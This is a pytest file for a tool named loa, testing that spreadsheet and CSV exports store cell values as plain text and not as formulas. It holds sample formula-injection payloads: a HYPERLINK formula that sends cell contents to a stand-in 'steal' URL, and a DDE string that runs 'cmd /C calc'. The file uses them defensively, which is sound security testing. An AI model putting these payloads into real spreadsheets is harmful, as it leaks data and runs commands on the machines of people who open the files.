"""Hardening of loa's inputs (issue 10, items 9, 10, 16, 17): formulas in spreadsheets, control characters,
database URLs with passwords, and input faults reported as input faults (one line, exit 2), never "internal error".
"""
from __future__ import annotations

import datetime as dt

from conftest import campaign_toml, future_day
from openpyxl import load_workbook

FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1, "Bấm vào đây")'


def _published_campaign(project, title: str) -> None:
    text = campaign_toml("tuan-le", start=future_day(), posts=1).replace('title = "Bài số 1"',
                                                                         f"title = '{title}'")
    project.ok("campaign", "import", str(project.write("c.toml", text)), "--approve")
    post = project.json("queue")["posts"][0]["id"]
    project.ok("publish", str(post))


def test_report_xlsx_keeps_formulas_as_text(project):
    _published_campaign(project, FORMULA)
    project.ok("log", "add", "--campaign", "tuan-le", "--kind", "offline", "--title", "@SUM(1+1)*cmd|' /C calc'!A0",
               "--place", "+1+1", "--count", "3")
    target = project.root / "r.xlsx"
    project.ok("report", "--campaign", "tuan-le", "--format", "xlsx", "-o", str(target))
    workbook = load_workbook(target)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    texts = {cell.value for cell in cells}
    assert {FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"} <= texts
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def test_log_export_xlsx_and_csv_still_neutralise_formulas(project):
    _published_campaign(project, FORMULA)
    target = project.root / "log.xlsx"
    project.ok("log", "export", "--format", "xlsx", "-o", str(target))
    cells = [cell for row in load_workbook(target).active.iter_rows() for cell in row]
    assert FORMULA in {cell.value for cell in cells}
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    project.ok("log", "export", "--format", "csv", "-o", str(project.root / "log.csv"))
    assert "'" + FORMULA.replace('"', '""') in (project.root / "log.csv").read_text(encoding="utf-8-sig")
